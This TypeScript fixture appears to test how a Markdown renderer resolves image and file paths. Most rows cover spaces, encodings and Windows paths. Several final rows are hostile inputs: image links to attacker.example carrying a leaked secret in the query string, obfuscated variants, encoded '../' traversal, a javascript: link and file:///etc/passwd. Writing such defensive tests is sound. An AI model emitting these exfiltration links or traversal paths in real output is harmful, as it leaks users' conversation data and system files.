/**
 * How people and models write the paths of pictures and files in Markdown, in our own words. `source`: repository and
 * thread; `own` where we know no report. `folder`: that of the text.
 */
type FileRow = {
  source: string;
  what: string;
  markdown: string;
  folder?: string;
  /** The paths that are looked up, in this order; [] if nothing of the workspace is meant. */
  comes: readonly string[];
};

export const markdownFiles: readonly FileRow[] = [
  {
    source: 'markra#663',
    what: 'spaces as they are',
    markdown: '![Image](assets/image with spaces.png)',
    comes: ['assets/image with spaces.png'],
  },
  {
    source: 'markra#663',
    what: 'spaces as %20',
    markdown: '![Image](assets/image%20with%20spaces.png)',
    comes: ['assets/image with spaces.png', 'assets/image%20with%20spaces.png'],
  },
  {
    source: 'markdown-viewer#242',
    what: 'spaces in angle brackets',
    markdown: '![foo](<Ausschneiden mit GIMP/Bild.png>)',
    comes: ['Ausschneiden mit GIMP/Bild.png'],
  },
  {
    source: 'obsidian-advanced-slides#100',
    what: 'parentheses in a name',
    markdown: '![a](<Screen (2).png>)',
    comes: ['Screen (2).png'],
  },
  {
    source: 'vscode#70279',
    what: 'spaces and parentheses as they are',
    markdown: '![img](Design (no blank space)Pattern/image001.png)',
    comes: ['Design (no blank space)Pattern/image001.png'],
  },
  {
    source: 'vscode#15715',
    what: 'a path from the folder of the text, upwards',
    markdown: '![](../images/cat.gif)',
    folder: 'posts',
    comes: ['images/cat.gif'],
  },
  {
    source: 'mdsvex-relative-images#5',
    what: './ before a name',
    markdown: '![](./some-image.png)',
    folder: 'notes/today',
    comes: ['notes/today/some-image.png'],
  },
  {
    source: 'happyclaw#587',
    what: 'a name in Chinese',
    markdown: '![图](ctr-images/04-三级存储.png)',
    comes: ['ctr-images/04-三级存储.png'],
  },
  {
    source: 'rari#630',
    what: 'a name in Cyrillic, encoded',
    markdown: '![](%D0%B1%D0%B5%D0%B7.png)',
    comes: ['без.png', '%D0%B1%D0%B5%D0%B7.png'],
  },
  {
    source: 'siyuan#14117',
    what: 'a percent sign in a name',
    markdown: '![](100%.png)',
    comes: ['100%.png'],
  },
  {
    source: 'vscode-markdown-preview-enhanced#878',
    what: 'a # in a name',
    markdown: '![](notes#_files/blue.png)',
    comes: ['notes', 'notes#_files/blue.png'],
  },
  {
    source: 'markdown-preview-plus#187',
    what: 'a path of Windows',
    markdown: '![](<test 2\\af93.png>)',
    comes: ['test 2/af93.png'],
  },
  {
    source: 'v2-hub#673',
    what: 'a path in quotation marks',
    markdown: '![]("pics/a.png")',
    comes: ['pics/a.png'],
  },
  {
    source: 'and-code#154',
    what: 'an absolute path in the folder that the tools see',
    markdown: '![](/workspace/rabbit.png)',
    folder: 'deep/down',
    comes: ['rabbit.png'],
  },
  {
    source: 'cubeplex#262',
    what: 'dots that are encoded, and lead out of the workspace',
    markdown: '[x](%2e%2e/%2e%2e/README.md)',
    folder: 'docs',
    comes: ['docs/%2e%2e/%2e%2e/README.md'],
  },
  {
    source: 'own',
    what: 'the scheme and folder of another system’s tools',
    markdown: '[Download](sandbox:/mnt/data/report.pdf)',
    comes: ['report.pdf'],
  },
  {
    source: 'NppMarkdownPanel#39',
    what: 'a title after the path',
    markdown: '![](123%203.png "A title")',
    comes: ['123 3.png', '123%203.png'],
  },
  {
    source: 'own',
    what: 'a reference, defined below',
    markdown: '![Plan][plan]\n\n[plan]: ./pics/plan.svg',
    comes: ['pics/plan.svg'],
  },
  {
    source: 'ai-dial-chat#7109',
    what: 'a picture that carries the conversation away',
    markdown: '![x](https://attacker.example/pixel.png?leak=SECRET)',
    comes: [],
  },
  {
    source: 'dust#12359',
    what: 'the same with the scheme as an entity',
    markdown: '![a](&#104;ttps://attacker.example/?p=SECRET)',
    comes: [],
  },
  { source: 'own', what: 'a host without a scheme', markdown: '![a](//attacker.example/a.png)', comes: [] },
  {
    source: 'own',
    what: 'the same with backslashes',
    markdown: '![a](\\\\\\\\attacker.example/a.png)',
    comes: [],
  },
  {
    source: 'own',
    what: 'a host behind encoded slashes',
    markdown: '![a](%2F%2Fattacker.example/a.png)',
    comes: ['%2F%2Fattacker.example/a.png'],
  },
  {
    source: 'own',
    what: 'a scheme behind an encoded colon',
    markdown: '![a](https%3A//attacker.example/a.png)',
    comes: ['https%3A/attacker.example/a.png'],
  },
  {
    source: 'own',
    what: 'a scheme with a tab in it',
    markdown: '![a](<ht\ttps://attacker.example/a.png>)',
    comes: [],
  },
  { source: 'own', what: 'a script', markdown: '[a](javascript:alert(1))', comes: [] },
  { source: 'own', what: 'bytes in the address', markdown: '![a](data:image/svg+xml,%3Csvg%3E)', comes: [] },
  { source: 'own', what: 'an object URL', markdown: '![a](blob:https://app.example/1)', comes: [] },
  { source: 'own', what: 'a file of the device', markdown: '![a](file:///etc/passwd)', comes: [] },
  { source: 'own', what: 'a place in the same text', markdown: '[a](#results)', comes: [] },
];
